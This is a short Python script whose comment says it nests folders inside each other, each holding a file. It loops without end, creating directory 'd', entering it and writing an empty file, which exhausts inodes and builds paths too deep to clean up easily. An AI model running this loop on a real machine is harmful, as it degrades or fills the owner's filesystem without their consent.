# Makes folders in each other, each with a file.
import os
while True:
    os.mkdir('d')
    os.chdir('d')
    open('f', 'w').close()
